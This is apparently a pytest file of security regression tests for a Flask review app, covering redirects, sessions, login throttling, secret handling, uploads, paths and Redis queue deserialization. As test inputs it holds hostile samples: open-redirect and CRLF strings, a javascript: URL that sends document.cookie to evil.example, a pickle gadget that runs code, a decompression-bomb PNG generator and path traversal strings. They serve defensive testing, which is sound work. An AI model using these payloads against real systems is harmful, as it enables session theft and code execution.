"""What a probe of the running review app found (issue 25), one test per finding: each failed on
the code before the fix."""

from __future__ import annotations

import json
import pickle
import smtplib
import struct
import threading
import time
import uuid
import zlib
from pathlib import Path
from typing import Any

import cv2
import pytest
import redis
import yaml
from flask import Flask
from sqlalchemy import update

from copywatch.settings import Settings, SettingsError
from db.engine import make_engine, session_factory
from db.models import Listing, Original, User
from review import create_app
from tests.conftest import REDIS_SERVER_URL, TEST_SECRET_KEY
from tests.review.conftest import PASSWORD, Seeded, csrf_from, login, synthetic_original

ROOT = Path(__file__).resolve().parents[2]


def _client_at(app: Flask, address: str) -> Any:
    """A test client whose requests come from ``address``."""
    client = app.test_client()
    client.environ_base["REMOTE_ADDR"] = address
    return client


def _try_login(client: Any, email: str, password: str, next_path: str | None = None) -> Any:
    token = csrf_from(client.get("/login").get_data(as_text=True))
    url = "/login" + (f"?next={next_path}" if next_path is not None else "")
    return client.post(url, data={"email": email, "password": password, "csrf_token": token})


def _sessions(seeded: Seeded) -> Any:
    return session_factory(make_engine(seeded.settings.database_url))


# --- 1. open redirect after login ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "next_path",
    [
        "/%09/evil.com",  # a tab: browsers drop it, leaving //evil.com
        "/%0a/evil.com",  # a newline: answered 500 before
        "/%0d%0aSet-Cookie:x=1",
        "/%5c/evil.com",  # a backslash
        "/%E2%80%A8/evil.com",  # a Unicode line separator
        "//evil.com",
        "https://evil.com/",
        "javascript:alert(1)",
        "/" + "a" * 5000,
    ],
)
def test_login_redirects_only_to_this_apps_paths(client, seeded: Seeded, next_path: str) -> None:
    response = _try_login(client, seeded.reviewer_email, PASSWORD, next_path)
    assert response.status_code == 302
    assert response.headers["Location"] == "/queue"


def test_login_keeps_a_plain_next_path(client, seeded: Seeded) -> None:
    response = _try_login(client, seeded.reviewer_email, PASSWORD, "/reports%3Fsince%3D2026-01-01")
    assert response.status_code == 302
    assert response.headers["Location"] == "/reports?since=2026-01-01"


# --- 2. sessions end on the server -------------------------------------------------------------------


def test_a_cookie_saved_before_logout_no_longer_opens_a_session(client, seeded: Seeded) -> None:
    token = login(client, seeded.reviewer_email)
    saved = client.get_cookie("copywatch_session").value
    assert client.get("/queue").status_code == 200
    client.post("/logout", data={"csrf_token": token})
    client.set_cookie("copywatch_session", saved)  # the attacker's copy of the cookie
    response = client.get("/queue")
    assert response.status_code == 302 and response.headers["Location"].startswith("/login")


def test_a_password_change_ends_every_session(app: Flask, seeded: Seeded) -> None:
    from review.auth import set_password

    laptop, phone = app.test_client(), app.test_client()
    login(laptop, seeded.reviewer_email)
    login(phone, seeded.reviewer_email)
    with _sessions(seeded)() as s, s.begin():
        set_password(s, s.query(User).filter_by(email=seeded.reviewer_email).one(), "a-new-password-42")
    assert laptop.get("/queue").status_code == 302
    assert phone.get("/queue").status_code == 302
    login(laptop, seeded.reviewer_email, "a-new-password-42")
    assert laptop.get("/queue").status_code == 200


def test_copywatch_user_password_ends_the_accounts_sessions(
    client, seeded: Seeded, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    import io

    from copywatch.cli import main

    login(client, seeded.reviewer_email)
    monkeypatch.setenv("DATABASE_URL", seeded.settings.database_url)
    monkeypatch.setenv("DATA_DIR", str(seeded.settings.data_dir))
    monkeypatch.setattr("sys.stdin", io.StringIO("another-password-7\n"))
    assert main(["user", "password", seeded.reviewer_email, "--password-stdin"]) == 0
    assert "sessions have ended" in capsys.readouterr().out
    assert client.get("/queue").status_code == 302
    login(client, seeded.reviewer_email, "another-password-7")


# --- 3. login throttling -----------------------------------------------------------------------------


def test_failed_guesses_do_not_lock_the_owner_out(app: Flask, seeded: Seeded) -> None:
    attacker = _client_at(app, "203.0.113.66")
    statuses = [_try_login(attacker, seeded.admin_email, f"guess-{i}").status_code for i in range(8)]
    assert statuses[:5] == [401] * 5 and set(statuses[5:]) == {429}
    # The attacker's address stays slowed down for this account, even with the right password…
    assert _try_login(attacker, seeded.admin_email, PASSWORD).status_code == 429
    # …but the admin, from their own address, logs in as usual.
    owner = _client_at(app, "198.51.100.7")
    assert _try_login(owner, seeded.admin_email, PASSWORD).status_code == 302


def test_many_e_mails_from_one_address_are_throttled(app: Flask, seeded: Seeded) -> None:
    from review.auth import LOGIN_LIMIT_PER_ADDRESS

    per_minute = int(LOGIN_LIMIT_PER_ADDRESS.split()[0])
    guesser = _client_at(app, "203.0.113.9")
    statuses = [
        _try_login(guesser, f"user{i}@example.com", "password1").status_code for i in range(per_minute + 3)
    ]
    assert statuses[:per_minute] == [401] * per_minute
    assert statuses[per_minute:] == [429] * 3
    page = _try_login(guesser, "someone@example.com", "password1")
    assert page.status_code == 429 and b"Too many login attempts" in page.data
    # Another address is not affected.
    assert _try_login(_client_at(app, "198.51.100.8"), seeded.reviewer_email, PASSWORD).status_code == 302


def test_the_throttle_state_stays_bounded_however_many_e_mails_are_tried(app: Flask, seeded: Seeded) -> None:
    from review.auth import LOGIN_LIMIT_PER_ADDRESS

    limiter = app.extensions["copywatch_login_limiter"]
    guesser = _client_at(app, "203.0.113.10")
    for i in range(200):
        _try_login(guesser, f"victim{i}@example.com", "password1")
    storage = limiter.storage
    entries = len(getattr(storage, "events", {})) + len(getattr(storage, "storage", {}))
    # One entry per window of the address's limit, and at most one per e-mail it was allowed to try.
    windows = LOGIN_LIMIT_PER_ADDRESS.split(";")
    assert entries <= len(windows) + int(windows[0].split()[0])


# --- 4. the secret key -----------------------------------------------------------------------------------


def _env_example_secret() -> str:
    for line in (ROOT / ".env.example").read_text().splitlines():
        if line.startswith("SECRET_KEY="):
            return line.split("=", 1)[1]
    raise AssertionError(".env.example has no SECRET_KEY line")


@pytest.mark.parametrize(
    ("key", "reason"),
    [
        ("x", "too short"),
        ("test-secret", "too short"),
        ("a" * 40, "not random"),
        ("generate-with-python-c-import-secrets-print-secrets.token_hex-32", "placeholder"),
        (None, "placeholder"),  # whatever .env.example ships now
    ],
)
def test_a_weak_or_placeholder_secret_key_is_refused(seeded: Seeded, key: str | None, reason: str) -> None:
    key = _env_example_secret() if key is None else key
    with pytest.raises(ValueError, match=reason):
        create_app(seeded.settings.with_overrides(secret_key=key))


def test_serve_explains_a_weak_secret_key_and_a_32_hex_key_is_accepted(
    seeded: Seeded, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from copywatch.cli import main

    monkeypatch.setenv("DATABASE_URL", seeded.settings.database_url)
    monkeypatch.setenv("DATA_DIR", str(seeded.settings.data_dir))
    monkeypatch.setenv("SECRET_KEY", "short")
    assert main(["serve", "--port", "1"]) == 2
    assert "at least 32" in capsys.readouterr().err
    create_app(seeded.settings.with_overrides(secret_key="3f9c2a71d0b84e6f5a1c9e2d7b30f486"))


# --- 5. SMTP credentials only over TLS -------------------------------------------------------------------


def test_smtp_credentials_are_never_sent_unencrypted(settings: Settings) -> None:
    from email.message import EmailMessage

    from workers.mail import deliver

    env = {
        "DATABASE_URL": settings.database_url,
        "SMTP_HOST": "smtp.example.com",
        "SMTP_USER": "cw",
        "SMTP_PASSWORD": "pw",
    }
    with pytest.raises(SettingsError, match="SMTP_TLS"):
        Settings.from_env(env)
    assert Settings.from_env({**env, "SMTP_TLS": "true"}).smtp_tls
    assert Settings.from_env({**env, "SMTP_HOST": "127.0.0.1"}).smtp_user == "cw"  # loopback relay
    message = EmailMessage()
    message["To"] = "brand@example.com"
    plaintext = settings.with_overrides(smtp_host="smtp.example.invalid", smtp_user="cw", smtp_password="pw")
    started = time.monotonic()
    with pytest.raises(smtplib.SMTPException, match="SMTP_TLS"):
        deliver(plaintext, message)
    assert time.monotonic() - started < 1  # refused before any connection is made


# --- 6. upload pixels and decode concurrency --------------------------------------------------------------


def _flat_png(width: int, height: int) -> bytes:
    """A real, complete grey PNG of ``width`` × ``height``: tiny on the wire, huge decoded."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body))
            + kind
            + body
            + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)
        )

    compressor = zlib.compressobj(9)
    row = b"\x00" + b"\x80" * width
    data = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def _upload(client: Any, token: str, data: bytes) -> Any:
    import io

    return client.post(
        "/api/search",
        data={"image": (io.BytesIO(data), "photo.png")},
        headers={"X-CSRFToken": token},
        content_type="multipart/form-data",
    )


def test_a_small_png_of_40_megapixels_is_refused_before_decoding(client, seeded: Seeded) -> None:
    token = login(client, seeded.reviewer_email)
    png = _flat_png(6300, 6300)
    assert len(png) < 100_000
    response = _upload(client, token, png)
    assert response.status_code == 400
    assert "pixels" in response.get_json()["error"]


def test_uploads_are_decoded_two_at_a_time(
    app: Flask, seeded: Seeded, monkeypatch: pytest.MonkeyPatch
) -> None:
    import review.search as search

    decode = search.decode_upload
    active, peak, lock = [0], [0], threading.Lock()

    def slow_decode(*args: Any, **kwargs: Any) -> Any:
        with lock:
            active[0] += 1
            peak[0] = max(peak[0], active[0])
        try:
            time.sleep(0.4)
            return decode(*args, **kwargs)
        finally:
            with lock:
                active[0] -= 1

    monkeypatch.setattr(search, "decode_upload", slow_decode)
    # What is tested is the bound, not the wait: on a loaded machine the first upload's matcher
    # load can outlast the page's 20 s, and the queued uploads would answer 503 instead.
    monkeypatch.setattr(search, "DECODE_WAIT_S", 120.0)
    ok, png = cv2.imencode(".png", synthetic_original(3))
    clients = [app.test_client() for _ in range(6)]
    tokens = [login(c, seeded.reviewer_email) for c in clients]
    statuses: list[int] = []

    def post(i: int) -> None:
        statuses.append(_upload(clients[i], tokens[i], png.tobytes()).status_code)

    threads = [threading.Thread(target=post, args=(i,)) for i in range(6)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(120)
    assert statuses == [200] * 6
    assert peak[0] == search.DECODE_SLOTS == 2


# --- 7. only http(s) links -----------------------------------------------------------------------------


def test_a_javascript_listing_url_is_never_a_link(client, seeded: Seeded) -> None:
    from workers.mail import AlertItem, compose_digest

    detection_id = seeded.detection_ids[0]
    with _sessions(seeded)() as s, s.begin():
        s.execute(
            update(Listing)
            .where(Listing.url == "http://a.invalid/item/0")
            .values(url="javascript:fetch('//evil.example/'+document.cookie)")
        )
    login(client, seeded.reviewer_email)
    page = client.get(f"/detections/{detection_id}").get_data(as_text=True)
    assert 'href="javascript:' not in page.lower()
    assert "Open the listing" not in page and "not a web link" in page

    item = AlertItem(
        detection_id=1, score=0.9, kind="stolen_image", listing_url=" JavaScript:alert(1)",
        listing_title="Cheap jacket", seller="s", marketplace="m", original_label="SKU-1",
        logo_verdict=None, listing_file=None, original_file=None,
    )  # fmt: skip
    safe = AlertItem(**{**item.__dict__, "listing_url": "https://shop.example/item/1"})
    message = compose_digest(seeded.settings, "Acme", ["brand@example.com"], [item, safe])
    html_part = message.get_body(preferencelist=("html",)).get_content()
    assert "javascript:" not in html_part.lower().replace("<code> javascript:alert(1)</code>", "")
    assert 'href="https://shop.example/item/1"' in html_part


def test_an_http_listing_url_stays_a_link(client, seeded: Seeded) -> None:
    login(client, seeded.reviewer_email)
    page = client.get(f"/detections/{seeded.detection_ids[0]}").get_data(as_text=True)
    assert 'href="http://a.invalid/item/0"' in page and "Open the listing" in page


# --- 8. bad query values answer 400 ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "query",
    [
        "marketplace=99999999999999999999",
        "brand=99999999999999999999999999999999",
        "brand=abc",
        "marketplace=%C2%B2",  # a superscript two: str.isdigit() says yes, int() says no
        "after=0.5:99999999999999999999",
        "after=nan:1",
        "after=garbage",
        "min=nan",
        "max=1e999",
        "since=9999-12-31",
        "until=9999-12-31",
        "since=2026-13-45",
        "status=bogus",
    ],
)
def test_every_bad_queue_value_answers_400_with_a_message(client, seeded: Seeded, query: str) -> None:
    login(client, seeded.reviewer_email)
    response = client.get(f"/queue?{query}")
    assert response.status_code == 400
    name = query.split("=")[0]
    assert name in response.get_data(as_text=True)


def test_json_bodies_that_are_not_objects_answer_400(client, seeded: Seeded) -> None:
    token = login(client, seeded.admin_email)
    url = f"/api/detections/{seeded.detection_ids[0]}/review"
    for body in (
        [],
        ["confirm"],
        "confirm",
        7,
        {"action": ["confirm"]},
        {"action": "confirm", "note": {"a": 1}},
    ):
        response = client.post(
            url, data=json.dumps(body), content_type="application/json", headers={"X-CSRFToken": token}
        )
        assert response.status_code == 400, body
        assert response.get_json()["error"]
    huge = client.get("/detections/99999999999999999999")
    assert huge.status_code == 404


# --- 9. media only from under MEDIA_ROOT ------------------------------------------------------------------


def test_an_absolute_path_outside_media_root_is_not_served(client, seeded: Seeded, tmp_path: Path) -> None:
    outside = tmp_path / "outside" / "secret.png"
    outside.parent.mkdir()
    ok, png = cv2.imencode(".png", synthetic_original(5))
    outside.write_bytes(png.tobytes())
    inside = seeded.settings.media_root / "originals" / "x.png"
    inside.parent.mkdir(parents=True, exist_ok=True)
    inside.write_bytes(png.tobytes())
    with _sessions(seeded)() as s, s.begin():
        s.execute(update(Original).where(Original.id == 1).values(image_path=str(outside)))
        s.execute(update(Original).where(Original.id == 2).values(image_path=str(inside)))
        s.execute(update(Original).where(Original.id == 3).values(image_path="../../outside/secret.png"))
    login(client, seeded.reviewer_email)
    assert client.get("/media/original/1").status_code == 404
    assert client.get("/media/original/3").status_code == 404
    assert client.get("/media/original/2").status_code == 200  # absolute, but under MEDIA_ROOT


# --- 10. secrets out of reprs and child processes ------------------------------------------------------------


def test_settings_repr_hides_secrets_and_the_crawl_child_gets_none(settings: Settings) -> None:
    from crawler.run import _settings_from_json, child_environment

    secret = settings.with_overrides(
        secret_key=TEST_SECRET_KEY,
        smtp_user="mailer",
        smtp_password="smtp-pass-123",
        database_url="postgresql://copywatch:db-pass-456@db/copywatch",
        redis_url="redis://:redis-pass-789@cache:6379/0",
    )
    shown = repr(secret) + str(secret)
    for value in (TEST_SECRET_KEY, "smtp-pass-123", "db-pass-456", "redis-pass-789"):
        assert value not in shown
    assert "db/copywatch" in shown and "cache:6379" in shown

    parent = {
        "PATH": "/usr/bin",
        "SECRET_KEY": TEST_SECRET_KEY,
        "SMTP_PASSWORD": "smtp-pass-123",
        "POSTGRES_PASSWORD": "pg",
        "SOME_API_TOKEN": "t",
        "DATABASE_URL": secret.database_url,
    }
    env = child_environment(secret, parent)
    assert env["PATH"] == "/usr/bin" and env["DATABASE_URL"] == secret.database_url
    assert not {"SECRET_KEY", "SMTP_PASSWORD", "POSTGRES_PASSWORD", "SOME_API_TOKEN"} & set(env)
    assert TEST_SECRET_KEY not in json.dumps(env) and "smtp-pass-123" not in json.dumps(env)
    child = _settings_from_json(env["COPYWATCH_SETTINGS_JSON"])
    assert child.database_url == secret.database_url and child.redis_url == secret.redis_url
    assert child.secret_key == "" and child.smtp_password == ""


# --- 11. no pickle from Redis, and Redis behind a password ----------------------------------------------


class _Boom:
    """Unpickling this creates a file: proof that code ran."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> Any:
        return (Path.touch, (self.marker,))


def test_the_shared_crawl_queue_never_unpickles(settings: Settings, tmp_path: Path) -> None:
    from scrapy import Request, Spider
    from scrapy_redis.queue import PriorityQueue

    from crawler.distributed import scrapy_settings

    shared = scrapy_settings(settings.with_overrides(redis_url=REDIS_SERVER_URL + "/0"), 7)
    serializer = __import__(shared["SCHEDULER_SERIALIZER"], fromlist=["loads"])
    server = redis.Redis.from_url(REDIS_SERVER_URL + "/0")
    key = f"copywatch-test:{uuid.uuid4().hex}:requests"
    spider = Spider(name="probe")
    queue = PriorityQueue(server, spider, key, serializer=serializer)
    try:
        request = Request(
            "http://shop.test/p/1", method="POST", body=b"\xff\x00 body", headers={"X-Seen": "1"},
            meta={"depth": 2, "redirect_urls": ["http://shop.test/old"]}, cb_kwargs={"kind": "product", "page": 3},
        )  # fmt: skip
        queue.push(request)
        back = queue.pop()
        assert back.url == request.url and back.body == request.body and back.method == "POST"
        assert back.headers.get("X-Seen") == b"1" and back.cb_kwargs == {"kind": "product", "page": 3}
        assert back.meta["redirect_urls"] == ["http://shop.test/old"]

        marker = tmp_path / "pwned"
        server.zadd(key, {pickle.dumps(_Boom(marker)): 0})
        with pytest.raises(ValueError, match="not this queue's JSON"):
            queue.pop()
        assert not marker.exists()
        server.zadd(key, {json.dumps({"url": "http://x/", "_class": "os.system"}): 0})
        with pytest.raises(ValueError, match="not a Scrapy request type"):
            queue.pop()
    finally:
        server.delete(key)
        server.close()


def test_compose_protects_redis_with_a_password() -> None:
    compose = yaml.safe_load((ROOT / "docker-compose.yml").read_text())
    redis_service = compose["services"]["redis"]
    assert "--requirepass" in " ".join(redis_service["command"])
    assert "REDIS_PASSWORD" in redis_service["environment"]
    assert "REDIS_PASSWORD" in " ".join(redis_service["healthcheck"]["test"])
    example = dict(
        line.split("=", 1)
        for line in (ROOT / ".env.example").read_text().splitlines()
        if "=" in line and not line.startswith("#")
    )
    password = example["REDIS_PASSWORD"]
    assert password and example["REDIS_URL"].startswith(f"redis://:{password}@")


def test_behind_a_proxy_the_throttle_keys_on_the_forwarded_address(seeded: Seeded) -> None:
    app = create_app(seeded.settings.with_overrides(proxy_hops=1))
    client = app.test_client()
    for i in range(25):  # more than the per-address limit, from 25 clients behind one proxy
        forwarded = {"X-Forwarded-For": f"198.51.100.{i + 1}"}
        token = csrf_from(client.get("/login", headers=forwarded).get_data(as_text=True))
        answer = client.post(
            "/login",
            data={"email": f"u{i}@example.com", "password": "x" * 9, "csrf_token": token},
            headers=forwarded,
        )
        assert answer.status_code == 401
